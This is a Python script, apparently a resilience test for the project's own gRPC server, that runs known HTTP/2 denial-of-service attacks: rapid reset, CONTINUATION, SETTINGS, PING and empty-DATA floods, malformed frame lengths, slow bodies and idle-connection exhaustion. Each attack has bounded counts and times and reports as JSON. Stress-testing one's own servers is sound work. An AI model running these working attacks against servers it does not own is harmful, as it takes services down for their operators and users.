"""Abuses an HTTP/2 server in one of the ways that are known, bounded in count and time, and says in one line of JSON what it did.

    /usr/bin/python3 h2_abuse.py ATTACK HOST PORT SECONDS

Needs Debian's python3-h2, for hyperframe and hpack alone: a real HTTP/2 library would refuse to send most of this.
"""

import json
import os
import selectors
import socket
import struct
import sys
import time

from hpack import Encoder
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = "/forlop.v1.PathwayService/GetPathway"


class Peer:
    """One connection. It never answers what it was asked to, and reads only to learn that it was thrown out."""

    def __init__(self, address, greet=True):
        self.socket = socket.create_connection(address, timeout=5)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = Encoder()
        self.next_stream = 1
        if greet:
            self.socket.sendall(PREFACE + SettingsFrame(0).serialize())

    def headers(self, end_headers=True, extra=()):
        """A call's headers on a fresh stream, whose number is returned with the frame."""
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        frame = HeadersFrame(stream, flags=["END_HEADERS"] if end_headers else [])
        frame.data = self.encoder.encode(
            [(":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "localhost"), ("content-type", "application/grpc"), ("te", "trailers"), *extra]
        )
        return stream, frame.serialize()

    def send(self, data):
        self.socket.sendall(data)

    def is_closed(self):
        """Reads away what has come; true when the server has ended the connection."""
        self.socket.setblocking(False)
        try:
            while True:
                if not self.socket.recv(65536):
                    return True
        except BlockingIOError:
            return False
        except OSError:
            return True
        finally:
            self.socket.settimeout(5)

    def close(self):
        self.socket.close()


class Tally:
    def __init__(self, seconds):
        self.sent = self.thrown_out = self.connections = 0
        self.end = time.monotonic() + seconds

    @property
    def goes_on(self):
        return time.monotonic() < self.end

    def __str__(self):
        return json.dumps({"sent": self.sent, "connections": self.connections, "thrown_out": self.thrown_out})


def repeat(address, tally, burst, most, read=True):
    """Sends bursts over one connection after another, a new one whenever the server ends the last."""
    while tally.goes_on and tally.sent < most:
        peer = Peer(address)
        tally.connections += 1
        try:
            state = {}
            while tally.goes_on and tally.sent < most:
                data, count = burst(peer, state)
                peer.send(data)
                tally.sent += count
                if read and peer.is_closed():
                    tally.thrown_out += 1
                    break
        except OSError:
            tally.thrown_out += 1
        finally:
            peer.close()


def rapid_reset(address, tally):
    """Streams that are cancelled before anybody can answer them."""

    def burst(peer, state):
        frames = []
        for _ in range(50):
            stream, headers = peer.headers()
            reset = RstStreamFrame(stream)
            reset.error_code = 8
            frames.append(headers + reset.serialize())
        wait(0.005)  # Ten thousand a second at most, or it would be the machine that is short of time.
        return b"".join(frames), 50

    repeat(address, tally, burst, most=10_000_000)


def continuation_flood(address, tally):
    """Headers that never end: in turn of nothing at all, of one field again and again, and of ever new ones."""
    kinds = [b"", Encoder().encode([("a", "b" * 20)]) * 4, None]

    def burst(peer, state):
        frames = []
        if "stream" not in state:
            state["stream"], first = peer.headers(end_headers=False)
            state["kind"] = kinds[tally.connections % len(kinds)]
            frames.append(first)
        for i in range(100):
            more = ContinuationFrame(state["stream"])
            more.data = peer.encoder.encode([(f"x-{tally.sent + i}", "y" * 100)]) if state["kind"] is None else state["kind"]
            frames.append(more.serialize())
        return b"".join(frames), 100

    repeat(address, tally, burst, most=10_000_000)


def settings_flood(address, tally):
    """Settings, each of which the server has to acknowledge to somebody who does not read."""
    frame = SettingsFrame(0)
    frame.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535, SettingsFrame.HEADER_TABLE_SIZE: 4096}
    repeat(address, tally, lambda peer, state: (frame.serialize() * 200, 200), most=10_000_000, read=False)


def ping_flood(address, tally):
    """Pings, each of which the server has to answer to somebody who does not read."""
    frame = PingFrame(0)
    frame.opaque_data = b"12345678"
    repeat(address, tally, lambda peer, state: (frame.serialize() * 200, 200), most=10_000_000, read=False)


def empty_data_flood(address, tally):
    """Data frames without data."""

    def burst(peer, state):
        first = b""
        if "stream" not in state:
            state["stream"], first = peer.headers()
        return first + DataFrame(state["stream"]).serialize() * 200, 200

    repeat(address, tally, burst, most=10_000_000)


def length_lies(address, tally):
    """Frames and messages that are not as long as they say, and calls that wait for what was promised."""

    def raw(length, kind, flags, stream, payload):
        return struct.pack(">I", length)[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

    def message(length, body=b""):
        return b"\0" + struct.pack(">I", length) + body

    def data(stream, payload, end=False):
        frame = DataFrame(stream, flags=["END_STREAM"] if end else [])
        frame.data = payload
        return frame.serialize()

    def burst(peer, state):
        stream, headers = peer.headers(extra=[("content-length", "7")] if tally.sent % 3 == 0 else [])
        lies = [
            headers + data(stream, message(0xFFFFFFFF, b"x" * 100)),
            headers + data(stream, message(4 * 1024 * 1024, b"x" * 1000)),
            headers + data(stream, message(1, b"x" * 1000), end=True),
            headers + data(stream, message(1000, b"x"), end=True),
            headers + data(stream, b"\2" + b"\xff" * 100, end=True),
            headers + raw(100, 0, 8, stream, b"\xff" + b"x" * 99),  # padding longer than its frame
            headers + raw(0xFFFFFF, 0, 0, stream, b"x" * 1000),  # a frame of sixteen megabytes
            headers + raw(3, 8, 0, 0, b"\0\0\0"),  # a window update of three bytes
            headers + raw(5, 3, 0, stream, b"\0" * 5),  # a reset of five
            raw(40, 1, 4, stream, b"\xff" * 40),  # headers that are no HPACK
        ]
        lie = lies[tally.sent % len(lies)]
        return lie, 1

    while tally.goes_on and tally.sent < 30_000:
        repeat(address, tally, burst, most=min(tally.sent + 40, 30_000))


def slow_bodies(address, tally):
    """Calls that promise a message and send a byte of it now and then."""
    peers = []
    for _ in range(20):
        peer = Peer(address)
        tally.connections += 1
        streams = []
        for _ in range(20):
            stream, headers = peer.headers()
            promise = DataFrame(stream)
            promise.data = b"\0" + struct.pack(">I", 1000)
            peer.send(headers + promise.serialize())
            streams.append(stream)
            tally.sent += 1
        peers.append((peer, streams))
    while peers and tally.goes_on:
        left = []
        for peer, streams in peers:
            try:
                for stream in streams:
                    drop = DataFrame(stream)
                    drop.data = b"\0"
                    peer.send(drop.serialize())
                gone = peer.is_closed()
            except OSError:
                gone = True
            if gone:
                tally.thrown_out += 1
                peer.close()
            else:
                left.append((peer, streams))
        peers = left
        wait(1)
    for peer, _ in peers:
        peer.close()


def idle(address, tally):
    """Five thousand connections that do nothing: every other one has greeted."""
    peers = []
    for i in range(5000):
        try:
            peers.append(Peer(address, greet=i % 2 == 0))
            tally.connections += 1
        except OSError:
            tally.thrown_out += 1
        if i % 50 == 49:
            wait(0.025)  # Two thousand a second: what is measured is that they are there, and not that they come.
    tally.sent = len(peers)
    wait(2)
    tally.thrown_out += sum(peer.is_closed() for peer in peers)
    for peer in peers:
        peer.close()


def wait(seconds):
    selectors.DefaultSelector().select(seconds)


ATTACKS = {
    attack.__name__.replace("_", "-"): attack
    for attack in (rapid_reset, continuation_flood, settings_flood, ping_flood, empty_data_flood, length_lies, slow_bodies, idle)
}


def main():
    name, host, port, seconds = sys.argv[1:]
    os.nice(15)  # It shares the machine with what it attacks: the server's own work is what shall be felt.
    if name == "idle":
        import resource

        resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    tally = Tally(float(seconds))
    ATTACKS[name]((host, int(port)), tally)
    print(tally)


if __name__ == "__main__":
    main()
